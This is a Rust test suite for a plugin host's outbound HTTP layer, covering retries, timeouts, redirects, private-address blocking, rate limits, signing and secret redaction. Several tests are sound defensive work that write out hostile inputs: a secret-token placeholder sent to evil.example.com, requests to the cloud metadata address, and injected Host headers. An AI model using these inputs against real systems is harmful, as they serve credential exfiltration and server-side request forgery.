//! The outbound pipeline against a hostile upstream, through the probe
//! plugin, asserting attempt counts, waits and the typed error the guest sees.

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use patchbay::outbound::HttpLimits;
use patchbay::{ConnectOptions, Connection, Credentials, Host, HostBuilder, Limits, Settings};
use patchbay_tests::hostile::Hostile;
use serde_json::{Value, json};

use crate::support::workspace;

pub(crate) const TOKEN: &str = "tok-9f8e7d6c5b4a";

pub(crate) fn probe_plugins() -> std::path::PathBuf {
    let dir = workspace().join("target/test-plugins");
    assert!(
        dir.join("probe.wasm").is_file(),
        "run `just build-plugins` first (`just test` does)"
    );
    dir
}

pub(crate) fn builder(allow_private: bool) -> HostBuilder {
    Host::builder()
        .plugins_dir(probe_plugins())
        .limits(Limits {
            pool_instances: 16,
            call_timeout: Duration::from_secs(20),
            ..Limits::default()
        })
        .http_limits(HttpLimits {
            max_response_bytes: 1024 * 1024,
            allow_private_network: allow_private,
            ..HttpLimits::default()
        })
}

pub(crate) fn connect(host: &Host, base: &str, other: Option<&str>) -> Connection {
    static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
    let mut settings = Settings::from([("base".to_string(), base.to_string())]);
    if let Some(other) = other {
        settings.insert("other".into(), other.into());
    }
    let id = format!("probe-{}", NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed));
    host.connect_with(
        "other/probe",
        Credentials::from([("token", TOKEN), ("user", "alice")]),
        settings,
        ConnectOptions {
            id: Some(id),
            // The operator lets the plugin read the user name, and sign with
            // the token.
            public_fields: vec!["user".into()],
            signing_fields: vec!["token".into()],
        },
    )
    .unwrap()
}

pub(crate) async fn probe(conn: &Connection, spec: Value) -> Value {
    probe_action(conn, "request", spec).await
}

/// Runs one of the probe's actions and returns what it reports.
pub(crate) async fn probe_action(conn: &Connection, action: &str, input: Value) -> Value {
    let output = conn
        .call_json(
            "actions.execute",
            &json!({ "name": action, "input": input.to_string() }),
        )
        .await
        .expect("the probe reports, it does not fail");
    serde_json::from_str(output.as_str().unwrap()).unwrap()
}

#[tokio::test]
async fn a_429_is_retried_after_retry_after_in_seconds_and_as_a_date() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, &up.url(), None);

    let started = Instant::now();
    let seconds = probe(&conn, json!({ "url": format!("{}/429/a/seconds", up.url()) })).await;
    let waited = started.elapsed();
    assert_eq!(seconds["status"], 200, "{seconds}");
    assert_eq!(up.hits("429/a"), 2, "one 429, then success");
    assert!(
        waited >= Duration::from_millis(950) && waited < Duration::from_secs(5),
        "waited {waited:?}"
    );

    let started = Instant::now();
    let date = probe(&conn, json!({ "url": format!("{}/429/b/date", up.url()) })).await;
    let waited = started.elapsed();
    assert_eq!(date["status"], 200, "{date}");
    assert_eq!(up.hits("429/b"), 2);
    assert!(
        waited >= Duration::from_millis(900) && waited < Duration::from_secs(5),
        "waited {waited:?}"
    );
}

#[tokio::test]
async fn bursts_of_5xx_are_retried_for_idempotent_requests_only() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    let url = |path: &str| format!("{}{path}", up.url());

    let recovered = probe(
        &connect(&host, &up.url(), None),
        json!({ "url": url("/flaky/a/2/503") }),
    )
    .await;
    assert_eq!(recovered["status"], 200);
    assert_eq!(up.hits("flaky/a"), 3);

    let exhausted = probe(&connect(&host, &up.url(), None), json!({ "url": url("/status/b/502") })).await;
    assert_eq!(exhausted["status"], 502, "the last response reaches the guest");
    assert_eq!(up.hits("status/b"), 4, "1 attempt + max-retries 3");

    let post = probe(
        &connect(&host, &up.url(), None),
        json!({ "method": "POST", "url": url("/status/c/503") }),
    )
    .await;
    assert_eq!(post["status"], 503);
    assert_eq!(
        up.hits("status/c"),
        1,
        "a POST without an idempotency key is not repeated"
    );

    let keyed = json!({ "method": "POST", "url": url("/status/d/503"), "idempotency_key": "k-1" });
    assert_eq!(probe(&connect(&host, &up.url(), None), keyed).await["status"], 503);
    assert_eq!(up.hits("status/d"), 4, "an idempotency key makes it safe to retry");

    let opted_out = json!({ "url": url("/status/e/503"), "no_retry": true });
    assert_eq!(probe(&connect(&host, &up.url(), None), opted_out).await["status"], 503);
    assert_eq!(up.hits("status/e"), 1);

    let not_retryable = probe(&connect(&host, &up.url(), None), json!({ "url": url("/status/f/404") })).await;
    assert_eq!(not_retryable["status"], 404);
    assert_eq!(up.hits("status/f"), 1);
}

#[tokio::test]
async fn hangs_time_out_and_resets_are_connection_errors() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();

    let started = Instant::now();
    let hung = probe(
        &connect(&host, &up.url(), None),
        json!({ "url": format!("{}/hang/a", up.url()), "timeout_ms": 300, "no_retry": true }),
    )
    .await;
    assert_eq!(hung["error"], "timeout", "{hung}");
    assert_eq!(up.hits("hang/a"), 1);
    assert!(started.elapsed() < Duration::from_secs(3));

    let retried = probe(
        &connect(&host, &up.url(), None),
        json!({ "url": format!("{}/hang/b", up.url()), "timeout_ms": 200 }),
    )
    .await;
    assert_eq!(retried["error"], "timeout");
    assert_eq!(up.hits("hang/b"), 4, "a GET that timed out is retried");

    let reset = probe(
        &connect(&host, &up.url(), None),
        json!({ "url": format!("{}/reset/c", up.url()), "no_retry": true }),
    )
    .await;
    assert_eq!(reset["error"], "connection", "{reset}");
}

#[tokio::test]
async fn oversize_bodies_are_refused_while_streaming() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, &up.url(), None);
    let streamed = probe(&conn, json!({ "url": format!("{}/big/5000000", up.url()) })).await;
    assert_eq!(streamed, json!({ "error": "too-large", "detail": 1048576 }));
    let declared = probe(
        &conn,
        json!({ "url": format!("{}/big/5000000?declared=true", up.url()) }),
    )
    .await;
    assert_eq!(declared["error"], "too-large");
    let small = probe(&conn, json!({ "url": format!("{}/big/1000", up.url()) })).await;
    assert_eq!(small["status"], 200);
    assert_eq!(small["body"].as_str().unwrap().len(), 1000);
}

#[tokio::test]
async fn redirects_are_rechecked_and_never_carry_credentials_to_another_origin() {
    let up = Hostile::start().await.unwrap();
    let other = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, &up.url(), Some(&other.url()));

    let port = up.server.addr.port();
    let outside = format!("{}/redirect?to=http://localhost:{port}/echo", up.url());
    let refused = probe(&conn, json!({ "url": outside, "basic": ["user", "token"] })).await;
    assert_eq!(refused["error"], "denied", "{refused}");
    assert!(
        refused["detail"].as_str().unwrap().starts_with("redirect refused"),
        "{refused}"
    );

    let same_origin = format!("{}/redirect?to=/echo", up.url());
    let kept = probe(&conn, json!({ "url": same_origin, "basic": ["user", "token"] })).await;
    assert_eq!(kept["status"], 200, "{kept}");
    let echoed = up.last_request().unwrap();
    assert!(
        echoed["headers"]["authorization"]
            .as_str()
            .is_some_and(|v| v.starts_with("Basic ")),
        "{echoed}"
    );

    let cross = format!("{}/redirect?to={}/echo", up.url(), other.url());
    let moved = probe(
        &conn,
        json!({ "url": cross, "basic": ["user", "token"], "headers": [["x-key", "{{secret.token}}"]] }),
    )
    .await;
    assert_eq!(moved["status"], 200, "{moved}");
    let echoed = other.last_request().unwrap();
    assert!(
        echoed["headers"].get("authorization").is_none(),
        "credentials stay with their origin: {echoed}"
    );
    assert!(echoed["headers"].get("x-key").is_none(), "{echoed}");
}

#[tokio::test]
async fn loopback_and_metadata_addresses_are_refused_unless_allowed() {
    let up = Hostile::start().await.unwrap();
    let host = builder(false).build().await.unwrap();
    let port = up.server.addr.port();

    let by_name = probe(
        &connect(&host, &format!("http://localhost:{port}"), None),
        json!({ "url": format!("http://localhost:{port}/echo") }),
    )
    .await;
    assert_eq!(by_name["error"], "denied", "{by_name}");
    assert!(
        by_name["detail"]
            .as_str()
            .unwrap()
            .contains("localhost resolves to 127.0.0.1, a loopback address"),
        "{by_name}"
    );

    let literal = probe(
        &connect(&host, &up.url(), None),
        json!({ "url": format!("{}/echo", up.url()) }),
    )
    .await;
    assert_eq!(literal["error"], "denied");

    let metadata = probe(
        &connect(&host, "http://169.254.169.254", None),
        json!({ "url": "http://169.254.169.254/latest/meta-data/" }),
    )
    .await;
    assert_eq!(metadata["error"], "denied");
    assert!(
        metadata["detail"].as_str().unwrap().contains("cloud metadata endpoint"),
        "{metadata}"
    );
    assert_eq!(up.hits("echo"), 0);
}

#[tokio::test]
async fn exfiltration_attempts_fail() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, &up.url(), None);

    let elsewhere = probe(
        &conn,
        json!({ "url": format!("https://evil.example.com/collect?t={{{{secret.token}}}}") }),
    )
    .await;
    assert_eq!(
        elsewhere["error"], "denied",
        "a placeholder aimed at a host outside the allowlist: {elsewhere}"
    );
    assert!(!elsewhere.to_string().contains(TOKEN));

    let in_host = probe(&conn, json!({ "url": "http://{{secret.token}}.example.com/" })).await;
    assert_eq!(
        in_host["error"], "denied",
        "placeholders are filled only after the allowlist check: {in_host}"
    );
    assert!(!in_host.to_string().contains(TOKEN));

    let read = |name: &str| json!({ "name": "config", "input": json!({ "name": name }).to_string() });
    let secret = conn.call_json("actions.execute", &read("token")).await.unwrap();
    assert!(
        secret.as_str().unwrap().contains("is a secret credential field"),
        "{secret}"
    );
    assert!(!secret.to_string().contains(TOKEN));
    let plain = conn.call_json("actions.execute", &read("user")).await.unwrap();
    assert!(
        plain.as_str().unwrap().contains("alice"),
        "non-secret credentials are readable: {plain}"
    );

    // Allowed host, placeholder in the query: the server gets the value, the plugin never does.
    let filled = probe(
        &conn,
        json!({ "url": format!("{}/echo?t={{{{secret.token}}}}", up.url()) }),
    )
    .await;
    let received = up.last_request().unwrap();
    assert!(received["uri"].as_str().unwrap().contains(TOKEN), "{received}");
    let echoed: Value = serde_json::from_str(filled["body"].as_str().unwrap()).unwrap();
    assert_eq!(echoed["uri"], "/echo?t=[redacted]", "{echoed}");
}

#[derive(Clone, Default)]
pub(crate) struct Captured(pub(crate) Arc<Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn no_secret_value_appears_in_logs_at_trace() {
    let captured = Captured::default();
    let writer = captured.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_writer(move || writer.clone())
        .finish();
    let _guard = tracing::subscriber::set_default(subscriber);

    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, &up.url(), None);
    // The upstream echoes the token (sent as a query parameter) and the plugin logs it.
    let echoed = probe(
        &conn,
        json!({ "url": format!("{}/echo", up.url()), "query_auth": ["key", "token"], "log_body": true }),
    )
    .await;
    assert!(up.last_request().unwrap()["uri"].as_str().unwrap().contains(TOKEN));
    assert!(echoed["body"].as_str().unwrap().contains("[redacted]"), "{echoed}");
    probe(
        &conn,
        json!({ "url": format!("{}/echo/{{{{secret.token}}}}", up.url()), "headers": [["x-key", "{{secret.token}}"]] }),
    )
    .await;
    probe(
        &conn,
        json!({ "url": format!("https://evil.example.com/?t={{{{secret.token}}}}") }),
    )
    .await;
    probe(
        &conn,
        json!({ "url": format!("{}/status/a/401?k={{{{secret.token}}}}", up.url()), "no_retry": true }),
    )
    .await;

    let logs = String::from_utf8(captured.0.lock().unwrap().clone()).unwrap();
    assert!(logs.contains("upstream said"), "the plugin's log record was captured");
    assert!(logs.contains("[redacted]"), "the echoed token was scrubbed");
    assert!(
        !logs.contains(TOKEN),
        "a secret leaked into the logs:\n{}",
        logs.lines()
            .filter(|l| l.contains(TOKEN))
            .collect::<Vec<_>>()
            .join("\n")
    );
}

#[tokio::test]
async fn repeated_auth_failures_disable_the_connection_until_reenabled() {
    let up = Hostile::start().await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let host = builder(true)
        .database(dir.path().join("state.db"))
        .build()
        .await
        .unwrap();
    let conn = connect(&host, &up.url(), None);
    let spec = json!({ "url": format!("{}/status/a/401", up.url()) });
    for _ in 0..3 {
        assert_eq!(probe(&conn, spec.clone()).await["status"], 401);
    }
    let refused = probe(&conn, spec.clone()).await;
    assert_eq!(refused["error"], "circuit-open", "{refused}");
    assert!(
        refused["detail"]
            .as_str()
            .unwrap()
            .contains("disabled after 3 consecutive authentication failures")
    );
    assert_eq!(up.hits("status/a"), 3, "a disabled connection sends nothing");

    // The state survives a restart of the host.
    let id = conn.id().to_string();
    drop(conn);
    drop(host);
    let host = builder(true)
        .database(dir.path().join("state.db"))
        .build()
        .await
        .unwrap();
    let again = host
        .connect_with(
            "other/probe",
            Credentials::from([("token", TOKEN), ("user", "alice")]),
            Settings::from([("base".to_string(), up.url())]),
            ConnectOptions {
                id: Some(id.clone()),
                ..ConnectOptions::default()
            },
        )
        .unwrap();
    assert_eq!(probe(&again, spec.clone()).await["error"], "circuit-open");
    host.reenable(&id).await.unwrap();
    assert_eq!(probe(&again, spec).await["status"], 401, "re-enabled");
}

#[tokio::test]
async fn a_call_may_send_only_so_many_requests() {
    let up = Hostile::start().await.unwrap();
    let host = Host::builder()
        .plugins_dir(probe_plugins())
        .allow_private_network(true)
        .limits(Limits {
            pool_instances: 16,
            max_http_requests_per_call: 3,
            ..Limits::default()
        })
        .build()
        .await
        .unwrap();
    let spec = json!({ "url": format!("{}/status/a/200", up.url()), "repeat": 5 });
    let outcomes = probe(&connect(&host, &up.url(), None), spec).await;
    let kinds: Vec<String> = outcomes
        .as_array()
        .unwrap()
        .iter()
        .map(|o| {
            o.get("error")
                .map(|e| e.to_string())
                .unwrap_or_else(|| o["status"].to_string())
        })
        .collect();
    assert_eq!(kinds, vec!["200", "200", "200", "\"denied\"", "\"denied\""]);
    assert!(
        outcomes[3]["detail"]
            .as_str()
            .unwrap()
            .contains("already sent 3 requests")
    );
    assert_eq!(up.hits("status/a"), 3);
}

#[tokio::test]
async fn the_rate_limit_spaces_requests_and_metrics_count_them() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).rate_limit("other/probe", 10.0, 1).build().await.unwrap();
    let conn = connect(&host, &up.url(), None);
    let started = Instant::now();
    let outcomes = probe(
        &conn,
        json!({ "url": format!("{}/status/a/200", up.url()), "repeat": 4 }),
    )
    .await;
    let elapsed = started.elapsed();
    assert!(outcomes.as_array().unwrap().iter().all(|o| o["status"] == 200));
    assert!(
        elapsed >= Duration::from_millis(280),
        "3 waits of ~100 ms at 10 rps, burst 1: {elapsed:?}"
    );
    assert!(elapsed < Duration::from_secs(3), "{elapsed:?}");

    probe(&conn, json!({ "url": format!("{}/flaky/b/1/503", up.url()) })).await;
    let metrics = host.metrics_text();
    assert!(
        metrics.contains(r#"patchbay_http_requests_total{provider="other/probe",status="200"} 5"#),
        "{metrics}"
    );
    assert!(
        metrics.contains(r#"patchbay_http_requests_total{provider="other/probe",status="503"} 1"#),
        "{metrics}"
    );
    assert!(
        metrics.contains(r#"patchbay_http_retries_total{provider="other/probe"} 1"#),
        "{metrics}"
    );
    assert!(
        metrics.contains(r#"patchbay_rate_limit_waits_total{provider="other/probe"} "#),
        "{metrics}"
    );
    assert!(
        metrics.contains(r#"patchbay_calls_total{provider="other/probe",outcome="ok"} 2"#),
        "{metrics}"
    );
}

#[tokio::test]
async fn sigv4_signs_with_secrets_the_plugin_never_sees() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, &up.url(), None);
    let spec = json!({
        "method": "PUT",
        "url": format!("{}/echo", up.url()),
        "body": "hello",
        "sigv4": ["s3", "eu-central-1", "user", "token"],
        "no_retry": true
    });
    let echoed = probe(&conn, spec).await;
    let reflected: Value = serde_json::from_str(echoed["body"].as_str().unwrap()).unwrap();
    assert_eq!(
        reflected["headers"]["authorization"], "AWS4-HMAC-SHA256 [redacted]",
        "the plugin never reads the signature back"
    );
    assert!(
        reflected["headers"]["x-amz-date"].is_string(),
        "what is not secret passes"
    );
    let seen = up.last_request().unwrap();
    let authorization = seen["headers"]["authorization"].as_str().unwrap();
    assert!(
        authorization.starts_with("AWS4-HMAC-SHA256 Credential=alice/"),
        "{authorization}"
    );
    assert!(
        authorization.contains("/eu-central-1/s3/aws4_request"),
        "{authorization}"
    );
    assert!(seen["headers"]["x-amz-date"].is_string());
    assert_eq!(
        seen["headers"]["x-amz-content-sha256"], "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824",
        "S3 signs the payload hash"
    );
    assert!(!seen.to_string().contains(TOKEN), "the secret key is never sent");
}

#[tokio::test]
async fn crypto_uses_secrets_the_plugin_cannot_read() {
    use hmac::Mac as _;
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, "http://127.0.0.1:9", None);
    let run = |input: Value| json!({ "name": "hmac", "input": input.to_string() });
    let output = conn
        .call_json(
            "actions.execute",
            &run(json!({ "field": "token", "message": "payload", "guess": TOKEN })),
        )
        .await
        .unwrap();
    let output: Value = serde_json::from_str(output.as_str().unwrap()).unwrap();
    let mut expected = hmac::Hmac::<sha2::Sha256>::new_from_slice(TOKEN.as_bytes()).unwrap();
    expected.update(b"payload");
    assert_eq!(output["hmac"], hex::encode(expected.finalize().into_bytes()));
    assert_eq!(output["verified"], true);
    assert_eq!(output["tampered"], false);
    assert_eq!(output["guess"], true);
    let wrong = conn
        .call_json(
            "actions.execute",
            &run(json!({ "field": "token", "message": "x", "guess": "nope" })),
        )
        .await
        .unwrap();
    assert!(wrong.as_str().unwrap().contains(r#""guess":false"#), "{wrong}");
    let missing = conn
        .call_json("actions.execute", &run(json!({ "field": "absent", "message": "x" })))
        .await
        .unwrap();
    assert!(
        missing.as_str().unwrap().contains("absent") && missing.as_str().unwrap().contains("is not set"),
        "{missing}"
    );
}

/// Issue 16: a forwarding header reaches the upstream only when the plugin
/// declared it (`manifest-extension`): the probe declares `X-Forwarded-For`
/// and nothing else, so `X-Forwarded-Host` and `Host` stay refused.
#[tokio::test]
async fn only_a_declared_forwarding_header_is_sent() {
    let up = Hostile::start().await.unwrap();
    let host = builder(true).build().await.unwrap();
    assert_eq!(
        host.provider("other/probe").unwrap().forwarding_headers(),
        ["x-forwarded-for"]
    );
    let conn = connect(&host, &up.url(), None);
    let url = format!("{}/reflect", up.url());
    let sent = probe(
        &conn,
        json!({ "url": url, "headers": [["X-Forwarded-For", "203.0.113.7"]], "no_retry": true }),
    )
    .await;
    assert_eq!(sent["status"], 200, "{sent}");
    let received = up.last_request().unwrap();
    assert_eq!(received["headers"]["x-forwarded-for"], "203.0.113.7", "{received}");
    for name in ["X-Forwarded-Host", "Host", "Via"] {
        let refused = probe(
            &conn,
            json!({ "url": url, "headers": [[name, "internal.example"]], "no_retry": true }),
        )
        .await;
        let error = refused.to_string();
        assert!(
            error.contains("invalid-request") && error.contains(name),
            "{name}: {refused}"
        );
    }
}

/// `crypto.verify-ed25519` (contract 0.1.1) checks a provider's signature
/// with its published key, and nothing else passes.
#[tokio::test]
async fn ed25519_signatures_are_checked_by_the_host() {
    use ring::signature::{Ed25519KeyPair, KeyPair as _};
    let pair = Ed25519KeyPair::from_seed_unchecked(&[7; 32]).unwrap();
    let key = hex::encode(pair.public_key().as_ref());
    let signature = hex::encode(pair.sign(b"1700000000{\"type\":1}").as_ref());
    let host = builder(true).build().await.unwrap();
    let conn = connect(&host, "http://127.0.0.1:9", None);
    let check = |message: &str, signature: &str| {
        probe_action(
            &conn,
            "ed25519",
            json!({ "key": key, "message": message, "signature": signature }),
        )
    };
    assert_eq!(check("1700000000{\"type\":1}", &signature).await["valid"], true);
    assert_eq!(
        check("1700000001{\"type\":1}", &signature).await["valid"],
        false,
        "another message"
    );
    assert_eq!(
        check("1700000000{\"type\":1}", &signature[..64]).await["valid"],
        false,
        "a cut signature"
    );
    let other = Ed25519KeyPair::from_seed_unchecked(&[8; 32]).unwrap();
    let forged = hex::encode(other.sign(b"1700000000{\"type\":1}").as_ref());
    assert_eq!(
        check("1700000000{\"type\":1}", &forged).await["valid"],
        false,
        "another key"
    );
}
